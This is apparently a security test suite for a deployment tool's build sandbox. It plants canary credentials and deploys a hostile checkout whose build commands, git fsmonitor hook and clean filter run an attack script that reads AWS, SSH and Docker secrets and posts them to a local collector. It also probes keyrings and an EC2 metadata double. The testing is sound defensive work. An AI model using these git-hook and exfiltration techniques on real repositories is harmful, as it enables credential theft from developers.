import { spawnSync } from "node:child_process";
import { symlinkSync, writeFileSync } from "node:fs";
import { homedir } from "node:os";
import { createServer, type Server } from "node:http";
import { delimiter, join, dirname } from "node:path";
import { expect } from "chai";
import { EXIT } from "../../deploy/exitCodes";
import { buildEnvironment, sandboxArguments, sandboxCommand } from "../../deploy/source/sandbox";
import { AwsDouble, ENV } from "../deploy/double/aws";
import { type CliResult, hasSandbox, runCli } from "../deploy/double/cli";
import { ScaledTime } from "../deploy/double/clocks";
import { serve } from "../deploy/double/server";
import {
  gitIn,
  makeCheckout,
  removeTemporaryDirectories,
  skip,
  temporaryDirectory,
  writeFiles,
} from "../deploy/source/checkout";
import { listen } from "../http";

const ROOT = join(__dirname, "../..");
const ATTACK = join(__dirname, "attack.js");
const SECRET = "canary-of-the-credentials";

interface Loot {
  name: string;
  canWrite: string[];
}

/** A server to which the attack sends what it reads. */
async function withCollector(test: (url: string, posts: string[]) => Promise<void>): Promise<void> {
  const posts: string[] = [];
  const server: Server = createServer((incoming, outgoing) => {
    let body = "";
    incoming.on("data", (chunk: Buffer) => (body += chunk.toString()));
    incoming.on("end", () => {
      posts.push(body);
      outgoing.end();
    });
  });
  const port = await listen(server);
  try {
    await test(`http://127.0.0.1:${port}`, posts);
  } finally {
    server.close();
    server.closeAllConnections();
  }
}

describe("security: a build that attacks the deployment's credentials", function () {
  this.timeout(120_000);
  after(removeTemporaryDirectories);

  /** Deploys a checkout whose build commands and git configuration attack, as a user with credentials everywhere. */
  async function deployAttack(
    options: readonly string[] = [],
    variables: (home: string) => Readonly<Record<string, string>> = () => ({}),
  ): Promise<{ result: CliResult; posts: string[] }> {
    const home = temporaryDirectory();
    const secrets = [".aws/credentials", ".aws/sso/cache/a.json", ".docker/config.json", ".ssh/id_ed25519"];
    writeFiles(home, Object.fromEntries(secrets.map((name) => [name, SECRET])));
    const agent = temporaryDirectory();
    writeFileSync(join(agent, "agent"), SECRET);
    const elsewhere = join(agent, "web-identity-token");
    writeFileSync(elsewhere, SECRET);
    let outcome: { result: CliResult; posts: string[] } | undefined;
    await withCollector(async (url, posts) => {
      const time = new ScaledTime(60);
      const double = new AwsDouble(1, time);
      double.addPair();
      const running = await serve(double);
      double.describeTarget(running.url);
      const read = [...secrets.map((name) => join(home, name)), join(agent, "agent"), elsewhere];
      const protectedFiles = [
        join(ROOT, "deploy/deploy.ts"),
        join(ROOT, "node_modules"),
        join(home, ".bashrc"),
        "/proc/sys/kernel/core_pattern",
        "/etc/passwd",
      ];
      writeFiles(home, { ".bashrc": "", "bin/mine": "", "shims/mine": "" });
      const attack = (name: string, source: string): string =>
        [
          process.execPath,
          ATTACK,
          name,
          url,
          ...read,
          "--",
          ...protectedFiles,
          join(source, ".git/config"),
        ].join(" ");
      const source = makeCheckout({ "manage.py": "", "requirements.txt": "", ".gitignore": "/static\n" });
      writeFiles(source, {
        "fsmonitor.sh": { executable: `#!/bin/sh\n${attack("fsmonitor", source)}\n` },
        "filter.sh": { executable: `#!/bin/sh\n${attack("filter", source)}\ncat\n` },
        ".gitattributes": "manage.py filter=attack\n",
        "iaso-deploy.yaml":
          `build:\n  - ${attack("command", source)}\n` +
          `  - git -C ${source} config core.pager evil || true\n` +
          "collectStatic: ['mkdir -p static && echo 1 > static/a.js']\ninclude: []\n",
      });
      gitIn(source, "add", "--all");
      gitIn(source, "commit", "--quiet", "-m", "Attack");
      gitIn(source, "config", "core.fsmonitor", join(source, "fsmonitor.sh"));
      gitIn(source, "config", "filter.attack.clean", join(source, "filter.sh"));
      // git compares the content of a file with another time, through the filter.
      spawnSync("touch", ["-d", "2001-01-01", join(source, "manage.py")]);
      try {
        const environment = {
          HOME: home,
          AWS_SECRET_ACCESS_KEY: SECRET,
          AWS_WEB_IDENTITY_TOKEN_FILE: elsewhere,
          ACTIONS_ID_TOKEN_REQUEST_TOKEN: SECRET,
          SLACK_WEBHOOK_URL: `${running.url}/slack/T000/B000/${SECRET}`,
          SSH_AUTH_SOCK: join(agent, "agent"),
          ...variables(home),
        };
        const result = await runCli(
          running,
          time,
          [ENV, "--source", source, "--migrations-unchecked", ...options],
          { environment },
        );
        outcome = { result, posts };
      } finally {
        await running.stop();
      }
    });
    return outcome!;
  }

  const namesOf = (posts: readonly string[]): string[] =>
    [...new Set(posts.map((post) => (JSON.parse(post) as Loot).name))].sort();

  it("finds no credentials in the sandbox: not by processes, files, links of git, or uncovered directories", async function () {
    if (!hasSandbox) skip(this, "bwrap is not installed, or not permitted here (apt-get install bubblewrap)");
    // Debian adds ~/bin to the PATH. Its parent is the home.
    const { posts, result } = await deployAttack([], (home) => ({
      PATH: [join(home, "bin"), home, join(home, "shims"), process.env["PATH"]].join(delimiter),
    }));
    expect(result.code, result.stderr + result.stdout).to.equal(EXIT.done);
    expect(namesOf(posts)).to.deep.equal(["command", "filter", "fsmonitor"]);
    for (const post of posts) {
      expect(post).not.to.contain(SECRET);
      expect((JSON.parse(post) as Loot).canWrite).to.deep.equal([]);
    }
  });

  it("finds no credentials behind a link of the home, as to the files of Windows", () => {
    const home = temporaryDirectory();
    symlinkSync("/usr/share/doc", join(home, ".aws"));
    const args = { source: temporaryDirectory(), workDirectory: temporaryDirectory(), writesSource: false };
    const { HOME } = process.env;
    process.env["HOME"] = home;
    const hidden = sandboxArguments(args).flatMap((one, index, all) =>
      all[index - 1] === "--tmpfs" ? [one] : [],
    );
    process.env["HOME"] = HOME;
    expect(hidden).to.include.members([home, "/usr/share/doc"]);
  });

  it("is shown no directory that a file of the code names as git's", () => {
    const source = temporaryDirectory();
    writeFileSync(join(source, ".git"), `gitdir: ${homedir()}\n`);
    const shown = sandboxArguments({ source, workDirectory: temporaryDirectory(), writesSource: false });
    expect(shown.filter((one, index) => one === homedir() && shown[index - 2] === "--ro-bind")).to.deep.equal(
      [],
    );
  });

  it("finds no file with credentials in the checkout, and cannot write to the deploy tool in it", () => {
    const root = join(__dirname, "../..");
    const file = join(temporaryDirectory(), "credentials");
    writeFileSync(file, SECRET);
    const shown = sandboxArguments(
      { source: dirname(root), workDirectory: temporaryDirectory(), writesSource: true },
      { AWS_SHARED_CREDENTIALS_FILE: file },
    );
    const targets = shown.filter((_, index) => /^--(ro-)?bind$/.test(shown[index - 2] ?? ""));
    const checkout = targets.lastIndexOf(dirname(root));
    expect(targets.lastIndexOf(root)).to.be.greaterThan(checkout);
    expect(targets.lastIndexOf(file)).to.be.greaterThan(checkout);
  });

  it("gets no token that publishes packages", () => {
    const { PATH, UV_INDEX_URL, ...others } = buildEnvironment(
      { PATH: "/bin", UV_INDEX_URL: "https://index", UV_PUBLISH_TOKEN: "secret" },
      "/work",
    );
    expect([PATH, UV_INDEX_URL]).to.deep.equal(["/bin", "https://index"]);
    expect(others).to.have.all.keys("HOME", "TMPDIR");
  });

  it("reads no key of the user's session keyring, in which aws-vault and Kerberos keep credentials", function () {
    if (!hasSandbox) skip(this, "bwrap is not installed, or not permitted here (apt-get install bubblewrap)");
    const [source, workDirectory] = [temporaryDirectory(), temporaryDirectory()];
    const name = "iaso-canary";
    const call = "import ctypes, subprocess, sys; call = ctypes.CDLL(None).syscall; own = -3\n";
    const [addKey, keyctl] = process.arch === "arm64" ? [217, 219] : [248, 250];
    const search = `${call}print("found" if call(${keyctl}, 10, own, b"user", b"${name}", 0) > 0 else "nothing")`;
    // The key is in a keyring of its own, which ends with this process.
    const user = `${call}call(${keyctl}, 1, None)
if call(${addKey}, b"user", b"${name}", b"${SECRET}", ${SECRET.length}, own) < 0: sys.exit("no keyrings")
for command in ${JSON.stringify([
      ["python3", "-c", search],
      sandboxCommand({ source, workDirectory, writesSource: false }, ["python3", "-c", search]),
    ])}: subprocess.run(command, check=True)`;
    const { status, stderr, stdout } = spawnSync("python3", ["-c", user], { encoding: "utf8" });
    if (stderr.trim() === "no keyrings") skip(this, "the kernel or the container refuses keyrings");
    expect(status, stderr).to.equal(0);
    expect(stdout).to.equal("found\nnothing\n");
  });

  it("does not run on an EC2 instance, whose metadata service gives a sandbox with a network the role", async function () {
    if (!hasSandbox) skip(this, "bwrap is not installed, or not permitted here (apt-get install bubblewrap)");
    // IMDSv2, which answers only with a token.
    const metadata = createServer(({ headers, method, url }, answer) => {
      const isToken = method === "PUT" && url === "/latest/api/token";
      const isRole = url === "/latest/meta-data/iam/security-credentials/";
      if (isToken && headers["x-aws-ec2-metadata-token-ttl-seconds"] !== undefined) answer.end("token");
      else if (isRole && headers["x-aws-ec2-metadata-token"] === "token") answer.end("build-server");
      else answer.writeHead(401).end();
    });
    const port = await listen(metadata);
    try {
      const { posts, result } = await deployAttack([], () => ({
        AWS_EC2_METADATA_SERVICE_ENDPOINT: `http://127.0.0.1:${port}`,
      }));
      expect(result.code, result.stderr + result.stdout).to.equal(EXIT.refused);
      expect(result.stderr).to.contain("the role build-server of this EC2 instance");
      expect(posts).to.deep.equal([]);
    } finally {
      metadata.close();
      metadata.closeAllConnections();
    }
  });

  it("finds all of them in the same build where the user lets it", async () => {
    const { posts, result } = await deployAttack(["--build-with-my-credentials"]);
    expect(result.code, result.stderr + result.stdout).to.equal(EXIT.done);
    expect(result.stdout).to.contain("warning: The application's code can read your AWS credentials");
    expect(namesOf(posts)).to.deep.equal(["command", "filter", "fsmonitor"]);
    for (const post of posts) {
      const { files, processes } = JSON.parse(post) as { files: string[]; processes: string[] };
      expect(files.every((content) => content === SECRET)).to.equal(true);
      expect(processes.join("")).to.contain(`AWS_SECRET_ACCESS_KEY=${SECRET}`);
    }
  });
});
